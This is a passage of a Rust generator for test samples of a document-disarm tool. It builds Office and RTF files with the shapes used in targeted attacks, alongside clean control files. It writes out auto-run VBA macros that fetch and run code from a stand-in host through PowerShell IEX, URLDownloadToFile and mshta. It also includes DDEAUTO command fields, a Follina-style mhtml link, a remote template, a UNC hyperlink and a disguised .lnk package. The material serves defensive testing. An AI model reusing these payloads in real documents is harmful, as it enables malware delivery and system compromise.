//! Writes the generated Office and RTF cases of `samples/office/`: the
//! targeted-attack shapes (auto-run VBA, XLM, DDE, remote templates, ActiveX,
//! packages, RTF objects) and clean documents of the same shapes that must
//! stay untouched. Deterministic: running it again writes the same bytes.
//!
//!   cargo run -p mugai-e2e --example make_office_samples
//!
//! Anything active is written as a `.in.zip` text container (see
//! samples/README.md); clean files are written as they are.

use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};

use base64::Engine as _;

const W_NS: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const R_NS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const VBA_REL: &str = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
const XML_DECL: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>"#;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("repository")
        .to_owned()
}

/// A corpus sample's original bytes.
fn corpus(rel: &str) -> Vec<u8> {
    let bytes = std::fs::read(root().join("samples").join(rel)).expect("sample");
    match rel.strip_suffix(".in.zip") {
        Some(_) => {
            mugai_core::input::decode_container(&bytes)
                .expect("container")
                .1
        }
        None => bytes,
    }
}

/// Writes one case: raw when `clean`, else text-encoded.
fn write(name: &str, bytes: &[u8], clean: bool) {
    let dir = root().join("samples/office");
    std::fs::create_dir_all(&dir).expect("samples/office");
    if clean {
        std::fs::write(dir.join(name), bytes).expect("write");
    } else {
        let container = mugai_core::input::encode_container(name, bytes).expect("encode");
        std::fs::write(dir.join(format!("{name}.in.zip")), container).expect("write");
    }
    println!("{name}");
}

// ---- VBA projects (MS-OVBA) ----

/// MS-OVBA compression with literal tokens only: valid, if not small.
fn ovba_compress(data: &[u8]) -> Vec<u8> {
    let mut out = vec![1u8];
    for chunk in data.chunks(4096) {
        let mut body = Vec::new();
        for group in chunk.chunks(8) {
            body.push(0);
            body.extend_from_slice(group);
        }
        if body.len() + 2 > 4098 {
            // An uncompressed chunk holds exactly 4096 bytes.
            let mut raw = chunk.to_vec();
            raw.resize(4096, b' ');
            out.extend_from_slice(&(0x3000u16 | 0x0FFF).to_le_bytes());
            out.extend_from_slice(&raw);
        } else {
            let header = 0xB000u16 | (body.len() as u16 + 2 - 3);
            out.extend_from_slice(&header.to_le_bytes());
            out.extend_from_slice(&body);
        }
    }
    out
}

fn record(out: &mut Vec<u8>, id: u16, data: &[u8]) {
    out.extend_from_slice(&id.to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(data);
}

fn utf16(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// One module: name, whether it is a document module, and its code.
struct Module<'a> {
    name: &'a str,
    document: bool,
    code: &'a str,
}

/// The streams of a VBA project, as `(path under the project storage, bytes)`.
fn vba_streams(modules: &[Module<'_>]) -> Vec<(String, Vec<u8>)> {
    let mut dir = Vec::new();
    record(&mut dir, 0x0001, &1u32.to_le_bytes());
    record(&mut dir, 0x0002, &0x0411u32.to_le_bytes());
    record(&mut dir, 0x0014, &0x0411u32.to_le_bytes());
    record(&mut dir, 0x0003, &932u16.to_le_bytes());
    record(&mut dir, 0x0004, b"VBAProject");
    record(&mut dir, 0x0005, b"");
    record(&mut dir, 0x0040, b"");
    record(&mut dir, 0x0006, b"");
    record(&mut dir, 0x003D, b"");
    record(&mut dir, 0x0007, &0u32.to_le_bytes());
    record(&mut dir, 0x0008, &0u32.to_le_bytes());
    // PROJECTVERSION: a fixed "size" of 4, then 6 bytes.
    dir.extend_from_slice(&0x0009u16.to_le_bytes());
    dir.extend_from_slice(&4u32.to_le_bytes());
    dir.extend_from_slice(&1u32.to_le_bytes());
    dir.extend_from_slice(&0u16.to_le_bytes());
    record(&mut dir, 0x000C, b"");
    record(&mut dir, 0x003C, b"");
    record(&mut dir, 0x000F, &(modules.len() as u16).to_le_bytes());
    record(&mut dir, 0x0013, &0xFFFFu16.to_le_bytes());
    let mut streams = Vec::new();
    let mut project = String::from("ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n");
    let mut wm = Vec::new();
    for m in modules {
        record(&mut dir, 0x0019, m.name.as_bytes());
        record(&mut dir, 0x0047, &utf16(m.name));
        record(&mut dir, 0x001A, m.name.as_bytes());
        record(&mut dir, 0x0032, &utf16(m.name));
        record(&mut dir, 0x001C, b"");
        record(&mut dir, 0x0048, b"");
        record(&mut dir, 0x0031, &0u32.to_le_bytes());
        record(&mut dir, 0x001E, &0u32.to_le_bytes());
        record(&mut dir, 0x002C, &0xFFFFu16.to_le_bytes());
        record(&mut dir, if m.document { 0x0022 } else { 0x0021 }, b"");
        record(&mut dir, 0x002B, b"");
        let source = format!("Attribute VB_Name = \"{}\"\r\n{}", m.name, m.code);
        streams.push((format!("VBA/{}", m.name), ovba_compress(source.as_bytes())));
        project.push_str(&if m.document {
            format!("Document={}/&H00000000\r\n", m.name)
        } else {
            format!("Module={}\r\n", m.name)
        });
        wm.extend_from_slice(m.name.as_bytes());
        wm.push(0);
        wm.extend_from_slice(&utf16(m.name));
        wm.extend_from_slice(&[0, 0]);
    }
    wm.extend_from_slice(&[0, 0]);
    record(&mut dir, 0x0010, b"");
    project.push_str(
        "Name=\"VBAProject\"\r\nHelpContextID=\"0\"\r\nVersionCompatible32=\"393222000\"\r\n",
    );
    streams.push(("VBA/dir".into(), ovba_compress(&dir)));
    streams.push((
        "VBA/_VBA_PROJECT".into(),
        vec![0x61, 0xCC, 0xFF, 0xFF, 0x00, 0x00, 0x00],
    ));
    streams.push(("PROJECT".into(), project.into_bytes()));
    streams.push(("PROJECTwm".into(), wm));
    streams
}

/// Storage timestamps fixed, so the same input writes the same bytes.
fn fix_times(cf: &mut cfb::CompoundFile<Cursor<Vec<u8>>>) {
    let when = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_795_000_000);
    let storages: Vec<PathBuf> = cf
        .walk()
        .filter(|e| !e.is_stream())
        .map(|e| e.path().to_owned())
        .collect();
    for path in storages {
        cf.set_created_time(&path, when).expect("time");
        cf.set_modified_time(&path, when).expect("time");
    }
}

/// A standalone `vbaProject.bin`.
fn vba_project_bin(modules: &[Module<'_>]) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("cfb");
    cf.create_storage("/VBA").expect("storage");
    for (path, data) in vba_streams(modules) {
        cf.create_stream(format!("/{path}"))
            .and_then(|mut s| s.write_all(&data))
            .expect("stream");
    }
    fix_times(&mut cf);
    cf.flush().expect("flush");
    cf.into_inner().into_inner()
}

/// A legacy file with a VBA project added under `storage` (`Macros` for
/// Word, `_VBA_PROJECT_CUR` for Excel).
fn ole_with_vba(base: &[u8], storage: &str, modules: &[Module<'_>]) -> Vec<u8> {
    let mut source = cfb::CompoundFile::open(Cursor::new(base)).expect("base");
    let mut cf = cfb::CompoundFile::create_with_version(source.version(), Cursor::new(Vec::new()))
        .expect("cfb");
    let entries: Vec<cfb::Entry> = source.walk().collect();
    for e in &entries {
        if e.is_stream() {
            let mut data = Vec::new();
            source
                .open_stream(e.path())
                .and_then(|mut s| s.read_to_end(&mut data))
                .expect("read");
            cf.create_stream(e.path())
                .and_then(|mut s| s.write_all(&data))
                .expect("write");
        } else if !e.is_root() {
            cf.create_storage(e.path()).expect("storage");
        }
    }
    cf.set_storage_clsid("/", *source.root_entry().clsid())
        .expect("clsid");
    cf.create_storage(format!("/{storage}")).expect("storage");
    cf.create_storage(format!("/{storage}/VBA"))
        .expect("storage");
    for (path, data) in vba_streams(modules) {
        cf.create_stream(format!("/{storage}/{path}"))
            .and_then(|mut s| s.write_all(&data))
            .expect("stream");
    }
    fix_times(&mut cf);
    cf.flush().expect("flush");
    cf.into_inner().into_inner()
}

// ---- OOXML packages ----

/// A package from `(name, content)` parts, in order, deflated, with a fixed
/// timestamp so the bytes are reproducible.
fn package(parts: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(zip::DateTime::default());
    for (name, data) in parts {
        zip.start_file(*name, options).expect("start");
        zip.write_all(data).expect("write");
    }
    zip.finish().expect("finish").into_inner()
}

fn rels(list: &[(&str, &str, &str, bool)]) -> Vec<u8> {
    let mut x = format!(
        "{XML_DECL}<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    );
    for (id, kind, target, external) in list {
        let mode = if *external {
            " TargetMode=\"External\""
        } else {
            ""
        };
        let target = target.replace('&', "&amp;").replace('"', "&quot;");
        x.push_str(&format!(
            "<Relationship Id=\"{id}\" Type=\"{kind}\" Target=\"{target}\"{mode}/>"
        ));
    }
    x.push_str("</Relationships>");
    x.into_bytes()
}

fn content_types(main: &str, main_type: &str, extra: &[(&str, &str)]) -> Vec<u8> {
    let mut x = format!(
        "{XML_DECL}<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
         <Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>\
         <Override PartName=\"/{main}\" ContentType=\"{main_type}\"/>"
    );
    for (part, t) in extra {
        x.push_str(&format!(
            "<Override PartName=\"/{part}\" ContentType=\"{t}\"/>"
        ));
    }
    x.push_str("</Types>");
    x.into_bytes()
}

fn paragraphs(lines: &[&str]) -> String {
    lines
        .iter()
        .map(|l| format!("<w:p><w:r><w:t xml:space=\"preserve\">{l}</w:t></w:r></w:p>"))
        .collect()
}

const DOCX_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const DOCM_MAIN: &str = "application/vnd.ms-word.document.macroEnabled.main+xml";
const DOTM_MAIN: &str = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml";
const MEETING: [&str; 3] = [
    "先日の会議の資料です。ご確認をお願いいたします。",
    "令和8年度 予算編成方針（案）",
    "The minutes of the meeting are attached.",
];

/// A Word package: body XML, extra relationships of the document, extra
/// parts with their content types, and the main part's content type.
fn word(
    body: &str,
    doc_rels: &[(&str, &str, &str, bool)],
    extra: &[(&str, Vec<u8>, Option<&str>)],
    main_type: &str,
) -> Vec<u8> {
    let document = format!(
        "{XML_DECL}<w:document xmlns:w=\"{W_NS}\" xmlns:r=\"{R_NS}\" \
         xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:v=\"urn:schemas-microsoft-com:vml\">\
         <w:body>{body}</w:body></w:document>"
    );
    let types: Vec<(&str, &str)> = extra
        .iter()
        .filter_map(|(n, _, t)| t.map(|t| (*n, t)))
        .collect();
    let mut parts: Vec<(&str, Vec<u8>)> = vec![
        (
            "[Content_Types].xml",
            content_types("word/document.xml", main_type, &types),
        ),
        (
            "_rels/.rels",
            rels(&[(
                "rId1",
                &format!("{REL}/officeDocument"),
                "word/document.xml",
                false,
            )]),
        ),
        ("word/document.xml", document.into_bytes()),
    ];
    if !doc_rels.is_empty() {
        parts.push(("word/_rels/document.xml.rels", rels(doc_rels)));
    }
    for (name, data, _) in extra {
        parts.push((name, data.clone()));
    }
    package(&parts)
}

/// A one-sheet workbook; `cells` are `(ref, inline string or formula)`.
fn workbook(
    cells: &[(&str, &str)],
    extra_sheets: &str,
    book_extra: &str,
    book_rels: &[(&str, &str, &str, bool)],
    extra: &[(&str, Vec<u8>, Option<&str>)],
    main_type: &str,
) -> Vec<u8> {
    let rows: String = cells
        .iter()
        .map(|(r, v)| match v.strip_prefix('=') {
            Some(f) => format!("<row><c r=\"{r}\"><f>{f}</f><v>0</v></c></row>"),
            None => format!("<row><c r=\"{r}\" t=\"inlineStr\"><is><t>{v}</t></is></c></row>"),
        })
        .collect();
    let sheet = format!(
        "{XML_DECL}<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
         <sheetData>{rows}</sheetData></worksheet>"
    );
    let book = format!(
        "{XML_DECL}<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
         xmlns:r=\"{R_NS}\"><sheets><sheet name=\"請求書\" sheetId=\"1\" r:id=\"rId1\"/>{extra_sheets}</sheets>{book_extra}</workbook>"
    );
    let mut all_rels = vec![(
        "rId1",
        format!("{REL}/worksheet"),
        "worksheets/sheet1.xml".to_owned(),
        false,
    )];
    for (id, kind, target, ext) in book_rels {
        all_rels.push((id, kind.to_string(), target.to_string(), *ext));
    }
    let all_rels: Vec<(&str, &str, &str, bool)> = all_rels
        .iter()
        .map(|(a, b, c, d)| (*a, b.as_str(), c.as_str(), *d))
        .collect();
    let mut types: Vec<(&str, &str)> = vec![(
        "xl/worksheets/sheet1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
    )];
    types.extend(extra.iter().filter_map(|(n, _, t)| t.map(|t| (*n, t))));
    let mut parts: Vec<(&str, Vec<u8>)> = vec![
        (
            "[Content_Types].xml",
            content_types("xl/workbook.xml", main_type, &types),
        ),
        (
            "_rels/.rels",
            rels(&[(
                "rId1",
                &format!("{REL}/officeDocument"),
                "xl/workbook.xml",
                false,
            )]),
        ),
        ("xl/workbook.xml", book.into_bytes()),
        ("xl/_rels/workbook.xml.rels", rels(&all_rels)),
        ("xl/worksheets/sheet1.xml", sheet.into_bytes()),
    ];
    for (name, data, _) in extra {
        parts.push((name, data.clone()));
    }
    package(&parts)
}

const XLSX_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const XLSM_MAIN: &str = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
const INVOICE: [(&str, &str); 4] = [
    ("A1", "請求書を送付します"),
    ("A2", "品名"),
    ("B2", "金額"),
    ("A3", "保守作業 11月分"),
];

/// The corpus's pptx made macro-enabled with a VBA project.
fn pptm(modules: &[Module<'_>]) -> Vec<u8> {
    let base = corpus("files/tk_testPPT.pptx");
    let mut zip = zip::ZipArchive::new(Cursor::new(base)).expect("pptx");
    let mut parts: Vec<(String, Vec<u8>)> = Vec::new();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).expect("member");
        let name = f.name().expect("name").into_owned();
        let mut data = Vec::new();
        f.read_to_end(&mut data).expect("read");
        let text = String::from_utf8_lossy(&data).into_owned();
        let data = match name.as_str() {
            "[Content_Types].xml" => text
                .replace(
                    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
                    "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
                )
                .replace(
                    "</Types>",
                    "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>",
                )
                .into_bytes(),
            "ppt/_rels/presentation.xml.rels" => text
                .replace(
                    "</Relationships>",
                    &format!("<Relationship Id=\"rId99\" Type=\"{VBA_REL}\" Target=\"vbaProject.bin\"/></Relationships>"),
                )
                .into_bytes(),
            _ => data,
        };
        parts.push((name, data));
    }
    parts.push(("ppt/vbaProject.bin".into(), vba_project_bin(modules)));
    let refs: Vec<(&str, Vec<u8>)> = parts.iter().map(|(n, d)| (n.as_str(), d.clone())).collect();
    package(&refs)
}

// ---- RTF ----

fn rtf(body: &str) -> Vec<u8> {
    format!(
        "{{\\rtf1\\ansi\\ansicpg932\\deff0{{\\fonttbl{{\\f0\\fnil\\fcharset128 MS Mincho;}}}}\r\n\
         \\pard\\f0\\fs21 \\'90\\'e6\\'93\\'fa\\'82\\'cc\\'89\\'ef\\'8b\\'63\\'82\\'cc\\'8e\\'91\\'97\\'bf\\'82\\'c5\\'82\\'b7\\par\r\n\
         {body}\r\nThe minutes of the meeting.\\par\r\n}}"
    )
    .into_bytes()
}

/// OLE1 "Package" object data, hex, as Word writes it into `\objdata`.
fn package_objdata(file: &str, payload: &[u8]) -> String {
    let mut native = Vec::new();
    native.extend_from_slice(&[2, 0]);
    native.extend_from_slice(file.as_bytes());
    native.push(0);
    native.extend_from_slice(format!("C:\\Users\\user\\{file}").as_bytes());
    native.push(0);
    native.extend_from_slice(&[0, 0, 3, 0]);
    let tmp = format!("C:\\Users\\user\\AppData\\Local\\Temp\\{file}\0");
    native.extend_from_slice(&(tmp.len() as u32).to_le_bytes());
    native.extend_from_slice(tmp.as_bytes());
    native.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    native.extend_from_slice(payload);
    let mut ole1 = Vec::new();
    ole1.extend_from_slice(&0x0501u32.to_le_bytes());
    ole1.extend_from_slice(&2u32.to_le_bytes());
    ole1.extend_from_slice(&8u32.to_le_bytes());
    ole1.extend_from_slice(b"Package\0");
    ole1.extend_from_slice(&[0; 8]);
    ole1.extend_from_slice(&(native.len() as u32).to_le_bytes());
    ole1.extend_from_slice(&native);
    ole1.iter()
        .map(|b| format!("{b:02x}"))
        .collect::<Vec<_>>()
        .chunks(64)
        .map(|c| c.concat())
        .collect::<Vec<_>>()
        .join("\r\n")
}

// ---- mail ----

fn mail(subject: &str, from: &str, body: &str, name: &str, ctype: &str, data: &[u8]) -> Vec<u8> {
    let b64 = base64::engine::general_purpose::STANDARD;
    let encode_words = |s: &str| format!("=?UTF-8?B?{}?=", b64.encode(s));
    let pct: String = name
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    let attachment: Vec<String> = b64
        .encode(data)
        .as_bytes()
        .chunks(76)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect();
    format!(
        "From: {from}\r\nTo: suzuki@city.example.lg.jp\r\nSubject: {}\r\n\
         Date: Mon, 23 Nov 2026 09:12:00 +0900\r\nMessage-ID: <{}@mail.example.com>\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
         --b1\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
         --b1\r\nContent-Type: {ctype}; name=\"{}\"\r\n\
         Content-Disposition: attachment; filename*=UTF-8''{pct}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--b1--\r\n",
        encode_words(subject),
        name.len() * 7919 + subject.len(),
        b64.encode(body),
        encode_words(name),
        attachment.join("\r\n"),
    )
    .into_bytes()
}

fn main() {
    let auto_open_shell = [
        Module {
            name: "ThisDocument",
            document: true,
            code: "",
        },
        Module {
            name: "NewMacros",
            document: false,
            code: "Sub AutoOpen()\r\n    Shell \"cmd /c powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\", 0\r\nEnd Sub\r\n",
        },
    ];
    let document_open_download = [
        Module {
            name: "ThisDocument",
            document: true,
            code: "Private Sub Document_Open()\r\n    Call Fetch\r\nEnd Sub\r\n",
        },
        Module {
            name: "Module1",
            document: false,
            code: "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\r\n\
                   Sub Fetch()\r\n    URLDownloadToFileA 0, \"http://198.51.100.7/inv.exe\", Environ(\"TEMP\") & \"\\inv.exe\", 0, 0\r\n    CreateObject(\"WScript.Shell\").Run Environ(\"TEMP\") & \"\\inv.exe\"\r\nEnd Sub\r\n",
        },
    ];
    let workbook_open = [
        Module {
            name: "ThisWorkbook",
            document: true,
            code: "Private Sub Workbook_Open()\r\n    CreateObject(\"WScript.Shell\").Run \"powershell -enc SQBFAFgA\", 0\r\nEnd Sub\r\n",
        },
        Module {
            name: "Sheet1",
            document: true,
            code: "",
        },
    ];
    let auto_new = [Module {
        name: "NewMacros",
        document: false,
        code: "Sub AutoNew()\r\n    Shell \"mshta http://198.51.100.7/t.hta\"\r\nEnd Sub\r\n",
    }];
    let pp_auto = [Module {
        name: "Module1",
        document: false,
        code: "Sub Auto_Open()\r\n    Shell \"cmd /c calc\"\r\nEnd Sub\r\n",
    }];
    let vba_part = |m: &[Module<'_>]| ("word/vbaProject.bin", vba_project_bin(m), None);
    let vba_rel = ("rId9", VBA_REL, "vbaProject.bin", false);

    // Word, auto-run VBA.
    let docm = word(
        &paragraphs(&MEETING),
        &[vba_rel],
        &[vba_part(&auto_open_shell)],
        DOCM_MAIN,
    );
    write("gen_docm_autoopen_shell.docm", &docm, false);
    write(
        "gen_docm_document_open_download.docm",
        &word(
            &paragraphs(&["請求書を送付します。", "Please find the invoice attached."]),
            &[vba_rel],
            &[vba_part(&document_open_download)],
            DOCM_MAIN,
        ),
        false,
    );
    write(
        "gen_dotm_autonew.dotm",
        &word(
            &paragraphs(&["議事録テンプレート"]),
            &[vba_rel],
            &[vba_part(&auto_new)],
            DOTM_MAIN,
        ),
        false,
    );
    // A ribbon whose onLoad calls the macro.
    let custom_ui = format!(
        "{XML_DECL}<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"AutoOpen\"><ribbon/></customUI>"
    );
    let mut ui_pkg = zip::ZipArchive::new(Cursor::new(word(
        &paragraphs(&MEETING),
        &[vba_rel],
        &[
            vba_part(&auto_open_shell),
            ("customUI/customUI14.xml", custom_ui.into_bytes(), None),
        ],
        DOCM_MAIN,
    )))
    .expect("zip");
    let mut parts: Vec<(String, Vec<u8>)> = Vec::new();
    for i in 0..ui_pkg.len() {
        let mut f = ui_pkg.by_index(i).expect("member");
        let name = f.name().expect("name").into_owned();
        let mut data = Vec::new();
        f.read_to_end(&mut data).expect("read");
        if name == "_rels/.rels" {
            data = rels(&[
                (
                    "rId1",
                    &format!("{REL}/officeDocument"),
                    "word/document.xml",
                    false,
                ),
                (
                    "rId2",
                    "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                    "customUI/customUI14.xml",
                    false,
                ),
            ]);
        }
        parts.push((name, data));
    }
    let refs: Vec<(&str, Vec<u8>)> = parts.iter().map(|(n, d)| (n.as_str(), d.clone())).collect();
    write("gen_docm_customui_onload.docm", &package(&refs), false);

    // Word, no VBA but active content.
    let activex = format!(
        "{}<w:p><w:r><w:object><w:control r:id=\"rId5\" w:name=\"CommandButton1\"/></w:object></w:r></w:p>",
        paragraphs(&MEETING)
    );
    write(
        "gen_docx_activex.docx",
        &word(
            &activex,
            &[("rId5", &format!("{REL}/control"), "activeX/activeX1.xml", false)],
            &[
                (
                    "word/activeX/activeX1.xml",
                    format!("{XML_DECL}<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{{D7053240-CE69-11CD-A777-00DD01143C57}}\" ax:persistence=\"persistStorage\" r:id=\"rId1\" xmlns:r=\"{R_NS}\"/>").into_bytes(),
                    Some("application/vnd.ms-office.activeX+xml"),
                ),
            ],
            DOCX_MAIN,
        ),
        false,
    );
    let dde_simple = format!(
        "{}<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/k powershell -c calc&quot; \"><w:r><w:t>資料を読み込んでいます…</w:t></w:r></w:fldSimple></w:p>",
        paragraphs(&MEETING)
    );
    write(
        "gen_docx_dde_fldsimple.docx",
        &word(&dde_simple, &[], &[], DOCX_MAIN),
        false,
    );
    let dde_split = format!(
        "{}<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>\
         <w:r><w:instrText xml:space=\"preserve\"> D</w:instrText></w:r>\
         <w:r><w:instrText>D</w:instrText></w:r>\
         <w:r><w:instrText xml:space=\"preserve\">E c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/c calc&quot; </w:instrText></w:r>\
         <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>更新してください</w:t></w:r>\
         <w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
        paragraphs(&MEETING)
    );
    write(
        "gen_docx_dde_split_runs.docx",
        &word(&dde_split, &[], &[], DOCX_MAIN),
        false,
    );
    // Remote template: the settings part points at an attacker's dotm.
    let settings = format!(
        "{XML_DECL}<w:settings xmlns:w=\"{W_NS}\" xmlns:r=\"{R_NS}\"><w:attachedTemplate r:id=\"rId1\"/><w:defaultTabStop w:val=\"840\"/></w:settings>"
    );
    write(
        "gen_docx_remote_template.docx",
        &word(
            &paragraphs(&MEETING),
            &[("rId3", &format!("{REL}/settings"), "settings.xml", false)],
            &[
                (
                    "word/settings.xml",
                    settings.into_bytes(),
                    Some(
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
                    ),
                ),
                (
                    "word/_rels/settings.xml.rels",
                    rels(&[(
                        "rId1",
                        &format!("{REL}/attachedTemplate"),
                        "https://city-example-lg.jp.198-51-100-7.example/templates/normal.dotm",
                        true,
                    )]),
                    None,
                ),
            ],
            DOCX_MAIN,
        ),
        false,
    );
    let follina = format!(
        "{}<w:p><w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Content\" r:id=\"rId7\" UpdateMode=\"OnCall\"/></w:object></w:r></w:p>",
        paragraphs(&MEETING)
    );
    write(
        "gen_docx_follina_mhtml.docx",
        &word(
            &follina,
            &[(
                "rId7",
                &format!("{REL}/oleObject"),
                "mhtml:http://198.51.100.7/index.html!x-usc:http://198.51.100.7/index.html",
                true,
            )],
            &[],
            DOCX_MAIN,
        ),
        false,
    );
    let unc_link = format!(
        "{}<w:p><w:hyperlink r:id=\"rId4\"><w:r><w:t>共有フォルダの資料</w:t></w:r></w:hyperlink></w:p>",
        paragraphs(&MEETING)
    );
    write(
        "gen_docx_unc_hyperlink.docx",
        &word(
            &unc_link,
            &[(
                "rId4",
                &format!("{REL}/hyperlink"),
                "\\\\198.51.100.7\\share\\資料.docx",
                true,
            )],
            &[],
            DOCX_MAIN,
        ),
        false,
    );
    // A Packager object holding a shortcut, as an OLE embedding.
    let mut ole = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("cfb");
    let objdata = package_objdata(
        "請求書.pdf.lnk",
        b"L\0\0\0\x01\x14\x02\0cmd.exe /c start http://198.51.100.7/",
    );
    let native: Vec<u8> = (0..objdata.len())
        .step_by(2)
        .filter_map(|i| objdata.get(i..i + 2))
        .filter(|h| !h.contains('\r') && !h.contains('\n'))
        .filter_map(|h| u8::from_str_radix(h, 16).ok())
        .collect();
    ole.create_stream("/\u{1}Ole10Native")
        .and_then(|mut s| s.write_all(&native))
        .expect("native");
    fix_times(&mut ole);
    ole.flush().expect("flush");
    let ole_bin = ole.into_inner().into_inner();
    let embed = format!(
        "{}<w:p><w:r><w:object><o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1026\" DrawAspect=\"Icon\" r:id=\"rId6\"/></w:object></w:r></w:p>",
        paragraphs(&MEETING)
    );
    write(
        "gen_docx_packager_embedding.docx",
        &word(
            &embed,
            &[(
                "rId6",
                &format!("{REL}/oleObject"),
                "embeddings/oleObject1.bin",
                false,
            )],
            &[(
                "word/embeddings/oleObject1.bin",
                ole_bin,
                Some("application/vnd.openxmlformats-officedocument.oleObject"),
            )],
            DOCX_MAIN,
        ),
        false,
    );
    // A macro document hidden inside a clean-looking one: the embedding is
    // no plain document, so disarm takes it out and keeps the outer one.
    write(
        "gen_docx_embedded_docm.docx",
        &word(
            &paragraphs(&MEETING),
            &[(
                "rId6",
                &format!("{REL}/package"),
                "embeddings/資料.docm",
                false,
            )],
            &[("word/embeddings/資料.docm", docm.clone(), None)],
            DOCX_MAIN,
        ),
        false,
    );

    // Word, clean: must be delivered untouched.
    let clean_body = format!(
        "{}<w:p><w:hyperlink r:id=\"rId4\"><w:r><w:t>市のホームページ</w:t></w:r></w:hyperlink></w:p>\
         <w:p><w:hyperlink r:id=\"rId5\"><w:r><w:t>担当者へメール</w:t></w:r></w:hyperlink></w:p>\
         <w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> PAGE </w:instrText></w:r>\
         <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>\
         <w:p><w:fldSimple w:instr=\" DATE \\@ &quot;yyyy年M月d日&quot; \"><w:r><w:t>2026年11月23日</w:t></w:r></w:fldSimple></w:p>",
        paragraphs(&MEETING)
    );
    let clean_docx = word(
        &clean_body,
        &[
            (
                "rId4",
                &format!("{REL}/hyperlink"),
                "https://www.city.example.lg.jp/",
                true,
            ),
            (
                "rId5",
                &format!("{REL}/hyperlink"),
                "mailto:kikaku@city.example.lg.jp",
                true,
            ),
        ],
        &[],
        DOCX_MAIN,
    );
    write("gen_docx_clean_links_fields.docx", &clean_docx, true);
    write(
        "gen_docx_clean_embedded_xlsx.docx",
        &word(
            &paragraphs(&MEETING),
            &[(
                "rId6",
                &format!("{REL}/package"),
                "embeddings/Microsoft_Excel_Worksheet.xlsx",
                false,
            )],
            &[(
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                workbook(&INVOICE, "", "", &[], &[], XLSX_MAIN),
                None,
            )],
            DOCX_MAIN,
        ),
        true,
    );

    // Excel.
    write(
        "gen_xlsm_workbook_open_powershell.xlsm",
        &workbook(
            &INVOICE,
            "",
            "",
            &[("rId9", VBA_REL, "vbaProject.bin", false)],
            &[("xl/vbaProject.bin", vba_project_bin(&workbook_open), None)],
            XLSM_MAIN,
        ),
        false,
    );
    let macrosheet = format!(
        "{XML_DECL}<xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
         xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>\
